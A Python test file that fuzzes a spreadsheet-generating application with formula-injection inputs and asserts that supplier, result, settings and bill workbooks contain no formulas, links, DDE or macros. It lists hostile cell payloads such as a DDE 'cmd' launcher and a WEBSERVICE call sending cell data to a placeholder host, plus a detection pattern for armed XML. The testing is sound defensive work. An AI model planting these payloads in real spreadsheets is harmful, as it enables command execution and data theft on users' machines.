"""PN39: nothing in any file that we make can execute, whatever buyers and suppliers write."""

import io
import re
import shutil
import zipfile
from collections.abc import Iterator, Mapping

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.utils.exceptions import IllegalCharacterError

from hedan.domain.bills import BillDay
from hedan.domain.workbook_columns import Field
from hedan.settings_files.book_writing import settings_workbook
from hedan.workbooks.bill_book import bill_book
from hedan.workbooks.cells import Formula
from hedan.workbooks.files import read_file
from hedan.workbooks.pick_sheet import pick_sheet
from hedan.workbooks.result import Verdict, write_result
from hedan.workbooks.rows import PickRow, WorkbookRow
from hedan.workbooks.ship_design import FIRST_ROW
from hedan.workbooks.writer import write_workbook
from tests.settings.samples import RICH
from tests.workbooks.other_samples import NOW, full_sheets
from tests.workbooks.samples import HEAD, at, filled, read, row

WORDS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.test","y")',
    '=WEBSERVICE("http://x.test/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "'=1+1",
    "·=1+1",
    '";=1+1;"',
    "<f>1+1</f>",
    "]]><f>1</f>",
    "http://x.test",
    "mailto:a@x.test",
    "_x003D_1+1",
    "[[title]]",
)
# What a spreadsheet of the West or of East Asia takes for the beginning of a formula.
FIRST_SIGNS = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫"
ARMED = re.compile(
    r"<(?:\w+:)?(?:f|hyperlink|oleObject|ddeLink|externalReference)[ >/]|TargetMode=\"External\""
    r"|externalLink|vbaProject|macrosheet",
    re.IGNORECASE,
)
TEXTS = st.one_of(
    st.sampled_from(WORDS),
    st.builds("{}{}".format, st.sampled_from(FIRST_SIGNS), st.text(max_size=12)),
    st.text(max_size=12),
)


def supplier_workbook(text: str) -> bytes:
    """Return a workbook with every sheet, the text wherever others than we write."""
    made: WorkbookRow = row(
        0,
        receiver_name=text,
        receiver_phone=text,
        region=text,
        address=text,
        remarks=f"{text}\n{text}",
        name=text,
        spec=text,
        sku=text,
        store_name=text,
        reasons=text,
        package=text,
        inserts=text,
    )
    head = HEAD.but(supplier_name=text or "x", carriers=(text or "x", "顺丰"), page_url=text)
    picks = (PickRow(text, text, text, text, "", 3), PickRow(text, text, text, text, "P1", 3))
    out = io.BytesIO()
    beside = (*full_sheets(name=text[:100]), pick_sheet(picks, "zh"))
    write_workbook(head, [made, row(1)], out, beside)
    return out.getvalue()


def result_workbook(text: str) -> bytes:
    """Return the answer to a workbook whose supplier wrote the text into every fill-in."""
    cells = {at(field): "" for field in (Field.CARRIER, Field.NUMBER, Field.EXPECTED, Field.NOTE)}
    data = supplier_workbook(text)
    try:
        data = filled(data, dict.fromkeys(cells, text))
    except (
        IllegalCharacterError
    ):  # openpyxl writes no control characters, neither does a spreadsheet.
        data = filled(data, dict.fromkeys(cells, "=1+1"))
    returned = read(data)
    return write_result(returned, {FIRST_ROW + 1: Verdict(False, "X", text, "A1")}, "zh")


def files(text: str) -> Iterator[tuple[str, bytes]]:
    """Yield every kind of file that we make."""
    yield "supplier", supplier_workbook(text)
    yield "result", result_workbook(text)


def assert_inert(name: str, data: bytes) -> None:
    """Find nothing in the file's XML and cells that a program would run or open."""
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for part in parts.namelist():
            content = parts.read(part).decode()
            # Texts stand escaped in the XML: a tag of theirs is none of the file's.
            assert not ARMED.search(content), f"{name}: {part}"
    found = read_file(data)
    assert found.remarks == ()
    for table in found.tables:
        for number, cells in table.rows.items():
            for cell in cells:
                assert not isinstance(cell, Formula), f"{name}: {table.name} {number}"
                assert not cell.startswith(tuple(FIRST_SIGNS)), f"{name}: {table.name} {cell!r}"


@settings(max_examples=12)
@given(TEXTS)
@example("=cmd|'/C calc'!A0")
@example("\u200b=1+1")
@example("＝1+1")
def test_pn39_no_cell_of_a_supplier_workbook_or_its_answer_can_execute(text: str) -> None:
    for name, data in files(text):
        assert_inert(name, data)


@pytest.mark.parametrize("text", WORDS[:12:2])
def test_pn39_no_cell_of_a_settings_workbook_or_a_bill_can_execute(text: str) -> None:
    named = RICH.but(stores=tuple(store.but(name=text.strip() or "x") for store in RICH.stores))
    data = settings_workbook(named)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for part in parts.namelist():
            content = parts.read(part).decode()
            assert not re.search(r"<f[ >/]|<hyperlink|externalLink|vbaProject", content), part
    for table in read_file(data).tables:
        for cells in table.rows.values():
            assert not any(isinstance(cell, Formula) for cell in cells)
    day = BillDay(supplier="factory-a", day=NOW.date(), closed_at=NOW)
    assert_inert("bill", bill_book([day], [], "zh"))


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    """Every hostile word in the files, as LibreOffice understands them."""
    from tests.workbooks.test_libreoffice import convert  # noqa: PLC0415

    folder = tmp_path_factory.mktemp("hostile")
    everything = "\n".join(WORDS)
    shown = {}
    for name, text in (("one", WORDS[0]), ("link", WORDS[2]), ("all", everything)):
        for kind, data in files(text):
            path = folder / f"{kind}-{name}"
            path.mkdir()
            with zipfile.ZipFile(io.BytesIO(convert(data, "xlsx", "ods", path))) as parts:
                content = parts.read("content.xml").decode()
            shown[path.name] = content.partition("<office:body>")[2]
    return shown


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_pn39_libreoffice_sees_no_formula_and_no_link(shown: Mapping[str, str]) -> None:
    assert len(shown) == 6
    for name, body in shown.items():
        assert "HYPERLINK" in body or name.endswith("one"), "the words are there, as texts"
        assert not re.search(r"table:formula|xlink:href|<text:a[ >]|dde-", body), name
